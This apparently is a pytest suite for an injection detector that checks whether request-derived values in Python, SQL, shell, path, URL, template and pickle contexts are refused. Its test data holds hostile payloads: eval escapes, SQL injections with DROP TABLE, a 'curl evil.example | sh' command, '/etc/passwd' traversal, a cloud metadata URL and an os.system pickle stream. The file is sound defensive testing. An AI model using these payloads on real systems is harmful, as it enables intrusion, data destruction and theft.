"""The judges with the real provenance: injections and honest texts, as a function would build them."""

from __future__ import annotations

import base64
import json
from typing import TYPE_CHECKING

import pytest

from dayfly.core.structure.imports import judge_global
from dayfly.core.structure.path import judge_path
from dayfly.core.structure.python import judge_python
from dayfly.core.structure.shell import judge_argv, judge_shell
from dayfly.core.structure.sql import judge_sql
from dayfly.core.structure.template import judge_template
from dayfly.core.structure.trusted_literals import OwnText
from dayfly.core.structure.url import judge_url

if TYPE_CHECKING:
    from dayfly.core.structure.judgement import Provenance

provenance = pytest.importorskip("dayfly.core.provenance")

PROSE = (
    "Please select the order from the list where price and name are set, or not; update it in the table by id"
)


def gateway(body: object, query: str = "") -> dict[str, object]:
    """An event of API Gateway's HTTP API."""
    return {
        "version": "2.0",
        "routeKey": "POST /orders/{id}",
        "rawPath": "/orders/42",
        "rawQueryString": query,
        "headers": {"host": "api.example.com", "content-type": "application/json", "user-agent": "curl/8"},
        "requestContext": {"http": {"method": "POST", "path": "/orders/42"}, "stage": "$default"},
        "pathParameters": {"id": "42"},
        "body": json.dumps(body),
        "isBase64Encoded": False,
    }


def encoded(body: object) -> dict[str, object]:
    event = gateway({})
    event["body"] = base64.b64encode(json.dumps(body).encode()).decode()
    event["isBase64Encoded"] = True
    return event


def both(body: object) -> list[Provenance]:
    return [
        provenance.Provenance(gateway(body)),
        provenance.Provenance(encoded(body)),
        provenance.Provenance(body),
    ]


EVAL = OwnText([" * 2", "'", "' in KNOWN", "price", "expr", "name", "price * 2 if name else 0", "sum(", ")"])


@pytest.mark.parametrize(
    ("template", "value", "expected"),
    [
        ("%s * 2", "10", "allow"),
        ("%s * 2", "-1.5", "allow"),
        ("%s * 2", "1e3", "allow"),
        ("%s * 2", "__import__('os').system('id')", "refuse"),
        ("%s * 2", "10 or True", "refuse"),
        ("%s * 2", "exit", "refuse"),
        ("'%s' in KNOWN", "Anna Lindgren", "allow"),
        ("'%s' in KNOWN", "x' or '1", "refuse"),
        ("'%s' in KNOWN", "x' in KNOWN or 'y", "refuse"),
        ("%s", "1+1", "refuse"),
        ("%s", "price", "refuse"),
        ("%s", "[].__class__", "refuse"),
        ("%s", '[1, "two", {"three": 3.5}]', "allow"),
        ("sum(%s)", "[1, 2, 3]", "allow"),
        ("sum(%s)", "open('/etc/passwd')", "refuse"),
    ],
)
def test_python(template: str, value: str, expected: str) -> None:
    for one in both({"price": value, "note": PROSE}):
        assert judge_python(template % value, one, EVAL).verdict == expected


def test_python_of_the_functions_own_is_allowed_whatever_the_event_says() -> None:
    for one in both({"price": 1, "name": "x", "note": PROSE}):
        assert judge_python("price * 2 if name else 0", one, EVAL).verdict == "allow"


QUERY = "SELECT id, price, name FROM orders WHERE name = '%s' AND id = %s ORDER BY price"
QUERIES = OwnText(
    [QUERY, "UPDATE orders SET name = %(name)s WHERE id = %(id)s", *QUERY.split("%s")],
    ["SELECT ", " FROM ", " AND "],
)


@pytest.mark.parametrize(
    ("name", "number", "expected"),
    [
        ("anna", "42", "allow"),
        ("price", "42", "allow"),
        ("O''Brien", "42", "allow"),
        ("x' OR '1'='1", "42", "refuse"),
        ("anna", "42 OR 1=1", "refuse"),
        ("anna", "id", "refuse"),
        ("anna", "42; DROP TABLE orders", "refuse"),
        ("x' UNION SELECT id, name FROM users --", "42", "refuse"),
    ],
)
def test_sql(name: str, number: str, expected: str) -> None:
    for one in both({"name": name, "id": number, "note": PROSE, "order": {"price": 10}}):
        assert judge_sql(QUERY % (name, number), one, QUERIES, dialect="sqlite").verdict == expected
        own = "UPDATE orders SET name = %(name)s WHERE id = %(id)s"
        assert judge_sql(own, one, QUERIES).verdict == "allow"


def test_an_escaped_name_is_a_value() -> None:
    for one in both({"name": "Conan O'Brien", "id": "42"}):
        assert (
            judge_sql(QUERY % ("Conan O''Brien", "42"), one, QUERIES, dialect="postgresql").verdict == "allow"
        )
        assert judge_sql(QUERY % ("Conan O\\'Brien", "42"), one, QUERIES, dialect="mysql").verdict == "allow"
        assert judge_sql(QUERY % ("Conan O'Brien", "42"), one, QUERIES, dialect="mysql").verdict == "unknown"


COMMANDS = OwnText(["convert ", " -resize 100x100 out.png", "convert", "out.png", "-resize", "100x100"])


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("'my photo.png'", "allow"),
        ("photo.png", "allow"),
        ("photo.png; curl evil.example | sh", "refuse"),
        ("$(id)", "refuse"),
        ("-write", "refuse"),
    ],
)
def test_shell(value: str, expected: str) -> None:
    for one in both({"file": value.strip("'"), "convert": True, "note": PROSE}):
        assert judge_shell(f"convert {value} -resize 100x100 out.png", one, COMMANDS).verdict == expected


def test_arguments() -> None:
    for one in both({"file": "-write", "other": "my photo.png", "convert": "yes"}):
        own = ["convert", "my photo.png", "-resize", "100x100", "out.png"]
        assert judge_argv("convert", own, one, COMMANDS).verdict == "allow"
        assert judge_argv("convert", ["convert", "-write", "out.png"], one, COMMANDS).verdict == "refuse"


def test_paths() -> None:
    own = OwnText(["/mnt/data/", ".json"])
    for one in both({"file": "../../etc/passwd", "name": "report-2026", "data": "x"}):
        assert judge_path("/mnt/data/../../etc/passwd", one, own).verdict == "refuse"
        assert judge_path("/mnt/data/report-2026.json", one, own).verdict == "allow"
        assert judge_path("/mnt/data/report-2026.json", one, own, resolved="/etc/passwd").verdict == "refuse"


def test_urls() -> None:
    own = OwnText(["https://api.example.com/items/", "/price", "https://api.example.com/search?q="])
    for one in both(
        {"item": "42-abc", "target": "http://169.254.169.254/latest", "up": "../../admin", "q": "a b&c=d"}
    ):
        assert judge_url("https://api.example.com/items/42-abc/price", one, own).verdict == "allow"
        assert judge_url("https://api.example.com/items/../../admin/price", one, own).verdict == "refuse"
        assert judge_url("http://169.254.169.254/latest", one, own).verdict == "refuse"
        assert judge_url("https://api.example.com/search?q=a+b%26c%3Dd", one, own).verdict == "allow"
        assert judge_url("https://api.example.com/search?q=a b&c=d", one, own).verdict == "refuse"


def test_templates() -> None:
    own = OwnText(["Dear {{ name }}, your order"])
    for one in both({"template": "Dear {{ name.__class__ }}", "name": "Anna", "note": "your order"}):
        assert judge_template("Dear {{ name.__class__ }}", one, own).verdict == "refuse"
        assert judge_template("Dear {{ name }}, your order", one, own).verdict == "allow"


def test_globals() -> None:
    stream = b"cos\nsystem\n(S'id'\ntR."
    for one in both({"state": base64.b64encode(stream).decode()}):
        assert judge_global("os", "system", one, OwnText()).verdict == "refuse"
        assert judge_global("collections", "ChainMap", one, OwnText()).verdict == "unknown"
        # Nobody calls anything by making one of these.
        assert judge_global("collections", "OrderedDict", one, OwnText()).verdict == "allow"
    for one in both({"state": base64.b64encode(b"ccollections\nOrderedDict\n(tR.").decode()}):
        assert judge_global("collections", "OrderedDict", one, OwnText()).verdict == "refuse"
